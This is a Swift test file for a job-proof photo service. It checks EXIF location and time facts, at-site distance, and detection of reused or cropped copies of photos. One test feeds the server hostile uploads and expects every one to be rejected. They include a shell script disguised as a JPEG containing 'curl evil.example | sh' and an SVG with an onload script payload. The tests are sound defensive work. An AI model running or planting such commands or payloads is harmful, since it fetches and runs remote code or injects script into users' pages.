import FieldlineDomain
import FieldlineTestSupport
import Foundation
import HummingbirdTesting
import Testing
@testable import FieldlineServer

/// Photos made in the tests: a camera photo with EXIF GPS at the site, and copies of it.
enum EvidencePhotos {
    static let site = (latitude: 40.4169, longitude: -3.7035)
    static let width = 320, height = 240

    /// EXIF for a photo taken now (UTC) at `latitude`/`longitude`.
    static func exif(latitude: Double = site.latitude, longitude: Double = site.longitude, at date: Date = Date()) -> ExifBuilder {
        let formatter = DateFormatter()
        formatter.locale = Locale(identifier: "en_US_POSIX")
        formatter.timeZone = TimeZone(secondsFromGMT: 0)
        formatter.dateFormat = "yyyy:MM:dd HH:mm:ss"
        return ExifBuilder(dateTimeOriginal: formatter.string(from: date), offsetTimeOriginal: "+00:00", latitude: latitude, longitude: longitude)
    }

    /// The original: scene 3 with EXIF.
    static func original() -> [UInt8] { TestImages.photo(variant: 3, width: width, height: height, quality: 92, exif: exif()) }

    /// The original decoded, cropped by 3% on two sides and recompressed at quality 55, without EXIF
    /// (what forwarding it through a chat app does).
    static func croppedCopy(of original: [UInt8]) throws -> [UInt8] {
        let file = NSTemporaryDirectory() + "fieldline-original-\(UUID().uuidString).jpg"
        _ = FileManager.default.createFile(atPath: file, contents: Data(original))
        defer { try? FileManager.default.removeItem(atPath: file) }
        let decoded = try fullDecode(file)
        let (x, y) = (width * 3 / 100, height * 3 / 100)
        let cropped = TestImages.crop(decoded, sourceWidth: width, x: x, y: y, width: width - x, height: height - y)
        return TestImages.jpeg(cropped, width: width - x, height: height - y, quality: 55)
    }

    /// A real photo whose EXIF block points its first directory far outside itself.
    static func malformedExif() -> [UInt8] {
        let garbage = Array("Exif\0\0MM".utf8) + [0, 42, 0xFF, 0xFF, 0xFF, 0xF0] + [UInt8](repeating: 7, count: 20)
        return TestImages.photo(variant: 4).count > 0
            ? TestImages.jpeg(TestImages.scene(width: 64, height: 48, variant: 4), width: 64, height: 48, app1: [0xFF, 0xE1, 0, UInt8(garbage.count + 2)] + garbage)
            : []
    }

    /// Decodes a JPEG at full size through the same decoder the server uses.
    static func fullDecode(_ file: String) throws -> [UInt8] {
        try #require(TestImages.decodeGray(file, maxSide: max(width, height)))
    }
}

@Suite("Proof evidence: facts of every photo, checks, reused photos")
struct ProofEvidenceTests {
    static let pageCredentials = #"{"access_token":"page-token","app_secret":"\#(WebhookTests.appSecret)","verify_token":"v"}"#

    /// Sends a Messenger photo (served at `path`) and returns its media id once settled.
    static func sendPhoto(_ client: any TestClientProtocol, _ admin: APICaller, url: String, baseURL: String, mid: String, path: String) async throws -> JSON {
        #expect(try await WebhookTests.postSigned(client, url, MediaSamples.messengerAttachment(mid: mid, url: baseURL + path)).status == .ok)
        let conversation = try #require(try await admin.get("/v1/conversations").json["data"][0]["id"].string)
        let messages = try await admin.get("/v1/conversations/\(conversation)/messages").json["data"].array
        let message = try #require(messages.first { $0["media"]["id"].string != nil && $0["provider_message_id"].string == mid } ?? messages.first)
        let id = try #require(message["media"]["id"].string)
        return try await MediaSamples.settled(admin, id)
    }

    static func assignedJob(_ admin: APICaller, _ network: JobNetwork, order: String) async throws -> String {
        let start = ISO8601DateFormatter().string(from: Date().addingTimeInterval(-3600))
        let end = ISO8601DateFormatter().string(from: Date().addingTimeInterval(3600))
        let job = try #require(try await admin.post("/v1/jobs", #"{"order_number":"\#(order)","title":"Tow","latitude":\#(EvidencePhotos.site.latitude),"longitude":\#(EvidencePhotos.site.longitude),"window_start":"\#(start)","window_end":"\#(end)"}"#).json["id"].string)
        #expect(try await admin.patch("/v1/jobs/\(job)", #"{"status":"assigned","organization_id":"\#(network.organization)"}"#).status == .ok)
        return job
    }

    @Test("a camera photo at the site passes every check; its cropped, recompressed copy and the same file in other jobs are flagged with the first job's order number")
    func factsChecksAndReuse() async throws {
        let directory = MediaSamples.directory()
        let original = EvidencePhotos.original()
        let copy = try EvidencePhotos.croppedCopy(of: original)
        #expect(copy != original)
        try await FakeProvider.run { baseURL, log in
            await log.serve("/cdn/original.jpg", FakeResponse(body: original))
            await log.serve("/cdn/copy.jpg", FakeResponse(body: copy))
            await log.serve("/cdn/other.jpg", FakeResponse(body: TestImages.photo(variant: 8)))
            try await TestApp.run(configure: MediaSamples.configure(baseURL, mediaDir: directory)) { client, fixtures in
                let admin = APICaller(client, try await fixtures.tenant())
                let network = try await JobNetwork.make(admin)
                let page = try await WebhookTests.createAdapter(admin, provider: "messenger", credentials: Self.pageCredentials)
                let first = try await Self.sendPhoto(client, admin, url: page.url, baseURL: baseURL, mid: "m1", path: "/cdn/original.jpg")
                let second = try await Self.sendPhoto(client, admin, url: page.url, baseURL: baseURL, mid: "m2", path: "/cdn/copy.jpg")
                let third = try await Self.sendPhoto(client, admin, url: page.url, baseURL: baseURL, mid: "m3", path: "/cdn/other.jpg")
                for media in [first, second, third] { #expect(media["status"].string == "fetched", "\(media)") }
                let (a, b, c) = (try #require(first["id"].string), try #require(second["id"].string), try #require(third["id"].string))

                let job1 = try await Self.assignedJob(admin, network, order: "PO-1")
                let proof = try await admin.post("/v1/jobs/\(job1)/proofs", #"{"media_ids":["\#(a)"],"latitude":40.4170,"longitude":-3.7036}"#)
                #expect(proof.status == .created)
                let photo = proof.json["media"][0]
                #expect(photo["width"].int == 320 && photo["height"].int == 240)
                #expect(photo["exif"]["status"].string == "present")
                #expect(abs((photo["exif"]["latitude"].double ?? 0) - EvidencePhotos.site.latitude) < 1e-5)
                #expect(photo["exif"]["captured_at"].string != nil)
                #expect(photo["exif"]["make"].string == "FieldCam")
                #expect(photo["perceptual_hash"].string?.count == 16)
                #expect(photo["reused_in"].array.isEmpty)
                #expect(photo["arrived_at"].string != nil)
                let checks = proof.json["checks"]
                #expect(checks["at_site"].bool == true)
                #expect(checks["location_source"].string == "shared")
                #expect((checks["distance_m"].double ?? 999) < 20)
                #expect(checks["at_site_limit_m"].int == 250)
                #expect(checks["in_window"].bool == true)
                #expect(checks["exif_consistent"].bool == true)
                #expect(checks["unique"].bool == true)
                #expect(checks["reasons"].array.isEmpty, "\(checks)")

                // The cropped, recompressed copy (no EXIF) in another job: not unique, names PO-1.
                let job2 = try await Self.assignedJob(admin, network, order: "PO-2")
                let reused = try await admin.post("/v1/jobs/\(job2)/proofs", #"{"media_ids":["\#(b)"]}"#).json
                #expect(reused["media"][0]["exif"]["status"].string == "absent")
                #expect(reused["media"][0]["sha256"].string != first["sha256"].string)
                let distance = PerceptualHash.distance(
                    UInt64(try #require(reused["media"][0]["perceptual_hash"].string), radix: 16)!,
                    UInt64(try #require(photo["perceptual_hash"].string), radix: 16)!)
                #expect(distance <= PerceptualHash.matchDistance)
                #expect(reused["checks"]["unique"].bool == false)
                #expect(reused["checks"]["reused_in"].array.map(\.string) == ["PO-1"])
                #expect(reused["media"][0]["reused_in"].array.map(\.string) == ["PO-1"])
                #expect(reused["checks"]["exif_consistent"].isNull)
                #expect(reused["checks"]["at_site"].isNull)
                // The first proof, read again, now shows the reuse too.
                let proofID = try #require(proof.json["id"].string)
                #expect(try await admin.get("/v1/proofs/\(proofID)").json["checks"]["reused_in"].array.map(\.string) == ["PO-2"])

                // The very same file in a third job: by SHA-256. Another photo stays unique.
                let job3 = try await Self.assignedJob(admin, network, order: "PO-3")
                let same = try await admin.post("/v1/jobs/\(job3)/proofs", #"{"media_ids":["\#(a)"]}"#).json
                #expect(same["checks"]["reused_in"].array.compactMap(\.string).sorted() == ["PO-1", "PO-2"])
                let fresh = try await admin.post("/v1/jobs/\(job3)/proofs", #"{"media_ids":["\#(c)"]}"#).json
                #expect(fresh["checks"]["unique"].bool == true, "\(fresh["checks"])")
                // A second proof of the same job with the same photo is not a reuse.
                #expect(try await admin.post("/v1/jobs/\(job1)/proofs", #"{"media_ids":["\#(a)"]}"#).json["checks"]["reused_in"].array.compactMap(\.string).sorted() == ["PO-2", "PO-3"])

                // The tenant's distance: 10 m makes the 14 m-away location not at the site.
                #expect(try await admin.get("/v1/proof-settings").json["at_site_metres"].int == 250)
                #expect(try await admin.put("/v1/proof-settings", #"{"at_site_metres":10}"#).json["at_site_metres"].int == 10)
                #expect(try await admin.put("/v1/proof-settings", #"{"at_site_metres":5}"#).status == .unprocessableContent)
                let strict = try await admin.get("/v1/proofs/\(proofID)").json["checks"]
                #expect(strict["at_site"].bool == false)
                #expect(strict["reasons"].array.contains { $0.string?.hasPrefix("at_site:") == true })
            }
        }
        try? FileManager.default.removeItem(atPath: directory)
    }

    @Test("hostile webhook media fail with the reason and leave nothing stored: a bomb, a truncated photo, a script named .jpg, an SVG")
    func hostileWebhookMedia() async throws {
        let directory = MediaSamples.directory()
        let photo = TestImages.photo(variant: 2, width: 320, height: 240)
        let cases: [(String, [UInt8], String)] = [
            ("bomb.png", TestHeaders.pngHead(width: 50_000, height: 50_000), "50000 × 50000 pixels"),
            ("truncated.jpg", Array(photo.prefix(photo.count * 2 / 3)), "truncated"),
            ("script.jpg", Array("#!/bin/sh\ncurl evil.example | sh\n".utf8) + [UInt8](repeating: 10, count: 40), "not a recognised media type"),
            ("bad-exif.jpg", EvidencePhotos.malformedExif(), "EXIF block is malformed"),
            ("drawing.jpg", Array(#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>"#.utf8), "not a recognised media type"),
        ]
        try await FakeProvider.run { baseURL, log in
            for (name, bytes, _) in cases { await log.serve("/cdn/\(name)", FakeResponse(contentType: "image/jpeg", body: bytes)) }
            try await TestApp.run(configure: MediaSamples.configure(baseURL, mediaDir: directory)) { client, fixtures in
                let admin = APICaller(client, try await fixtures.tenant())
                let page = try await WebhookTests.createAdapter(admin, provider: "messenger", credentials: Self.pageCredentials)
                for (index, (name, _, reason)) in cases.enumerated() {
                    let media = try await Self.sendPhoto(client, admin, url: page.url, baseURL: baseURL, mid: "h\(index)", path: "/cdn/\(name)")
                    #expect(media["status"].string == "failed", "\(name)")
                    #expect(media["error"].string?.contains(reason) == true, "\(name): \(media["error"])")
                    #expect(media["attempts"].int == 1, "\(name): refusals are not retried")
                }
                #expect(MediaSamples.files(in: directory, "objects").isEmpty)
                #expect(MediaSamples.files(in: directory, "tmp").isEmpty)
            }
        }
        try? FileManager.default.removeItem(atPath: directory)
    }
}
